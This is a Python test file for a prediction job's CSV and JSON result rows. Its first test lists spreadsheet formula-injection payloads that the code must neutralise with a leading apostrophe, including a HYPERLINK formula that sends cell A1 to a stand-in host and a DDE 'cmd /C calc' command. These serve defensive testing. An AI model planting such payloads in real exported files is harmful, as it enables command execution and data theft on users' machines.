"""Tests of the rows that results are written in."""

import csv
import io
import json

import pytest

from jobs.errors import CommandError
from jobs.outcomes import Outcome
from jobs.records import Record
from jobs.rows import CsvTable, columns_of, fields_of, json_row, neutral, without_surrogates

BENIGN = {"label": "benign", "p_malignant": 0.02}


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://a.example?"&A1,"x")',
        *("=1+1", "+cmd|' /C calc'!A0", "-a", "@SUM(A1)", "\tx", "\rx", "\n=1", "\0=1", "+1+1", "-1-1", "+", "-"),
        *("-1.5.5", "-1,5", "-0x1", "+1e", "-inf", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(cell: str) -> None:
    assert neutral(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["-1", "-1.5", "-0", "+1.5", "-.5", "-1e-5", "+1E10", "1", "", "a=b", "wdbc-001", "'=1"]
)
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert neutral(cell) == cell


def _rows(table: CsvTable, *pairs: tuple[Record, Outcome | None]) -> list[list[str]]:
    text = table.header() + "".join(table.row(*pair) for pair in pairs)
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_row_has_the_inputs_columns_the_predictions_fields_and_the_error() -> None:
    table = CsvTable(["id", "note"], ["label", "p_malignant"], "not yet")
    assert _rows(
        table,
        (Record(0, {"id": "a", "note": 'x,"y"\nz'}), Outcome(0, "predicted", BENIGN)),
        (Record(1, {"id": "=b", "note": ""}), Outcome(1, "rejected", None, "NotANumber", "expected a number")),
        (Record(2, {"id": "c", "note": ""}), None),
    ) == [
        ["id", "note", "label", "p_malignant", "error", "cause"],
        ["a", 'x,"y"\nz', "benign", "0.02", "", ""],
        ["'=b", "", "", "", "NotANumber", "expected a number"],
        ["c", "", "", "", "NotPredicted", "not yet"],
    ]


def test_a_field_with_the_name_of_an_inputs_column_gets_a_name_of_its_own() -> None:
    table = CsvTable(["label", "error"], ["label"], "")
    assert _rows(table)[0] == ["label", "error", "prediction.label", "prediction.error", "cause"]


def test_a_field_that_no_column_was_made_for_is_not_dropped() -> None:
    table = CsvTable(["id"], ["label"], "")
    with pytest.raises(CommandError, match=r"has a field 'score'.*--format jsonl"):
        table.row(Record(5, {"id": "a"}), Outcome(5, "predicted", {"score": 1}))


def test_predictions_and_records_that_are_no_objects_have_columns_too() -> None:
    records = [Record(0, 7), Record(1, {"a": {"b": None}})]
    found = [Outcome(0, "predicted", 0.5), Outcome(1, "predicted", [1, 2])]
    table = CsvTable(columns_of(records), fields_of(found), "")
    assert _rows(table, *zip(records, found, strict=True)) == [
        ["record", "a", "prediction", "error", "cause"],
        ["7", "", "0.5", "", ""],
        ["", '{"b": null}', "[1, 2]", "", ""],
    ]


def test_a_line_of_json_is_the_record_with_its_prediction_or_its_error() -> None:
    record = Record(0, {"id": "a", "x": 1})
    assert json.loads(json_row(record, Outcome(0, "predicted", BENIGN), "")) == {**record.value, "prediction": BENIGN}
    failed = Outcome(0, "failed", None, "States.Timeout", "too slow")
    assert json.loads(json_row(record, failed, ""))["error"] == {"error": "States.Timeout", "cause": "too slow"}
    assert json.loads(json_row(record, None, "not yet"))["error"] == {"error": "NotPredicted", "cause": "not yet"}


def test_a_line_of_json_says_which_model_made_the_prediction() -> None:
    maker = {"variant": "Challenger", "modelVersion": "v1"}
    found = Outcome(0, "predicted", 3, maker=maker)
    assert json.loads(json_row(Record(0, {"variant": "own"}), found, "")) == {
        "record.variant": "own",
        "prediction": 3,
        **maker,
    }
    assert json.loads(json_row(Record(0, {"variant": "own"}), None, ""))["variant"] == "own"


def test_a_records_own_prediction_and_error_are_kept_apart() -> None:
    row = json.loads(json_row(Record(0, {"prediction": 1, "error": 2}), Outcome(0, "predicted", 3), ""))
    assert row == {"record.prediction": 1, "record.error": 2, "prediction": 3}


def test_a_lone_surrogate_of_a_json_record_can_be_written_to_a_csv_file() -> None:
    assert without_surrogates("a\ud800é").encode() == b"a\\ud800" + "é".encode()
